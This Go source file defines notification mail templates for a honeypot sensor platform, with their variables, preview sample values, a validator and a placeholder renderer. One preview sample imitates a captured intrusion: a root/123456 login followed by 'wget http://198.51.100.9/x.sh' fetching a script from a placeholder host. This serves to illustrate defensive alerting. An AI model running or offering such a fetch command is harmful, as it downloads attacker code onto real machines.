package notify

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"unicode/utf8"

	"honeysens/app/model"
)

// Variable is one {{NAME}} placeholder of a template.
type Variable struct {
	Name        string `json:"name"`
	Description string `json:"description"`
	sample      string // the value a preview shows
}

// Kind is one type of notification with its template's variables.
type Kind struct {
	Type        string     `json:"type"`
	Name        string     `json:"name"`
	Description string     `json:"description"`
	Variables   []Variable `json:"variables"`
}

// sensorVariables name the sensor in the mails about its outage: timeout and back online.
var sensorVariables = []Variable{
	{"SENSOR_NAME", "Name of the sensor", "office-pi"},
	{"SENSOR_ID", "Sensor ID", "3"},
	{"GROUP", "The sensor's group", "Default"},
}

// offlineSince is when the outage began, in both of those mails.
var offlineSince = Variable{"OFFLINE_SINCE", "Time the sensor became offline (UTC)", "2026-11-30 08:14:33"}

// Kinds lists the notification types that have a template, in the order the UI offers them.
var Kinds = []Kind{
	{Type: model.MailEvent, Name: "Event notification",
		Description: "Sent for every new event to contacts with \"all events\", and for Honeypot events to contacts with \"critical events\".",
		Variables: []Variable{
			{"ID", "Event ID", "4711"},
			{"TIME", "Date and time of the event (UTC)", "2026-11-30 08:15:42"},
			{"SENSOR", "Name of the sensor that reported it", "office-pi"},
			{"GROUP", "The sensor's group", "Default"},
			{"CLASSIFICATION", "Classification (Honeypot, Scan, Connection attempt, ...)", "Honeypot"},
			{"SERVICE", "The honeypot service that reported it", "ssh"},
			{"SOURCE", "Attacker address and port", "203.0.113.7:51234"},
			{"TARGET", "Attacked address and port", "192.0.2.10:22"},
			{"SUMMARY", "The event's one-line summary", "SSH login root/123456"},
			{"DETAILS", "Additional information, the sensor interaction and packets, as text blocks",
				"Sensor interaction (times in UTC)\n  08:15:42  login root / 123456 accepted\n  08:15:44  uname -a\n  08:15:47  wget http://198.51.100.9/x.sh"},
		}},
	{Type: model.MailTimeout, Name: "Sensor timeout",
		Description: "Sent once per outage to contacts with \"sensor timeouts\" when a sensor stops reporting.",
		Variables: slices.Concat(sensorVariables, []Variable{
			{"UPDATE_INTERVAL", "The sensor's update interval", "1m0s"},
			{"TIMEOUT_TOLERANCE", "Tolerance added to the interval before the sensor counts as offline", "1m30s"},
			{"LAST_CONTACT", "Time of the sensor's last contact (UTC)", "2026-11-30 08:12:03"},
			offlineSince,
		})},
	{Type: model.MailOnline, Name: "Sensor back online",
		Description: "Sent to contacts with \"sensor timeouts\" when a sensor that was offline reports again.",
		Variables: slices.Concat(sensorVariables, []Variable{
			offlineSince,
			{"ONLINE_SINCE", "Time of its first contact after the outage (UTC)", "2026-11-30 09:02:10"},
			{"DOWNTIME", "How long it was offline", "47m37s"},
		})},
	{Type: model.MailWeekly, Name: "Weekly summary",
		Description: "Sent every Monday to contacts with \"weekly summary\": one mail per address covering all its groups; none for an empty week.",
		Variables: []Variable{
			{"RANGE_FROM", "Start of the week", "2026-11-23 09:00 UTC"},
			{"RANGE_TO", "End of the week", "2026-11-30 09:00 UTC"},
			{"TOTAL", "Number of events in the recipient's groups", "1342"},
			{"EVENTS", "Per group: counts by classification and by sensor, and the critical events",
				"### Group \"Default\" ###\n1342 events, 17 critical\n\nBy classification:\n  Honeypot              17\n  Scan                 211\n  Connection attempt  1114\n\nBy sensor:\n  office-pi          1342\n\nCritical events:\n  2026-11-24 13:01:55  #4711  office-pi  203.0.113.7  SSH login root/123456"},
		}},
	{Type: model.MailStorm, Name: "Storm summary",
		Description: "Sent when a recipient reached the storm guard's limit: the events of the rest of the window in one mail.",
		Variables: []Variable{
			{"COUNT", "Number of events collected", "250"},
			{"CRITICAL", "How many of them are critical (Honeypot)", "12"},
			{"LIMIT", "The storm guard's limit of event mails per window", "10"},
			{"RANGE_FROM", "Time of the first collected event (UTC)", "2026-11-30 08:15:42"},
			{"RANGE_TO", "Time of the last collected event (UTC)", "2026-11-30 08:25:40"},
			{"EVENTS", "The first collected events, one line each",
				"2026-11-30 08:15:42  #4711  Honeypot  office-pi  203.0.113.7  SSH login root/123456\n... and 249 more"},
		}},
}

// KindOf returns the notification type's definition.
func KindOf(kind string) (*Kind, bool) {
	i := slices.IndexFunc(Kinds, func(k Kind) bool { return k.Type == kind })
	if i < 0 {
		return nil, false
	}
	return &Kinds[i], true
}

// MaxTemplateLen bounds a custom template.
const MaxTemplateLen = 20000

var placeholder = regexp.MustCompile(`\{\{([A-Za-z0-9_]*)\}\}`)

// Validate checks a custom template: its size and that it uses only the kind's variables.
func (k *Kind) Validate(body string) error {
	f := model.FieldErrors{}
	switch {
	case strings.TrimSpace(body) == "":
		f.Add("body", "The template is empty.")
	case len(body) > MaxTemplateLen:
		f.Add("body", fmt.Sprintf("Use at most %d bytes.", MaxTemplateLen))
	case !utf8.ValidString(body) || strings.ContainsRune(body, 0):
		f.Add("body", "The template must be UTF-8 text.")
	}
	var unknown []string
	for _, m := range placeholder.FindAllStringSubmatch(body, -1) {
		if !slices.ContainsFunc(k.Variables, func(v Variable) bool { return v.Name == m[1] }) && !slices.Contains(unknown, m[0]) {
			unknown = append(unknown, m[0])
		}
	}
	if len(unknown) > 0 {
		f.Add("body", fmt.Sprintf("Unknown variable %s. This template knows %s.", strings.Join(unknown, ", "), k.names()))
	}
	return f.Err()
}

func (k *Kind) names() string {
	var list []string
	for _, v := range k.Variables {
		list = append(list, "{{"+v.Name+"}}")
	}
	return strings.Join(list, " ")
}

// samples are the preview's values.
func (k *Kind) samples() map[string]string {
	out := map[string]string{}
	for _, v := range k.Variables {
		out[v.Name] = v.sample
	}
	return out
}

// render replaces each {{NAME}} of body with its value in one pass: values are never scanned
// again, so a value that itself reads "{{ID}}" stays text. Nothing else in the template has a
// meaning; no code runs from it.
func render(body string, values map[string]string) string {
	return placeholder.ReplaceAllStringFunc(body, func(tok string) string {
		if v, ok := values[tok[2:len(tok)-2]]; ok {
			return v
		}
		return tok
	})
}
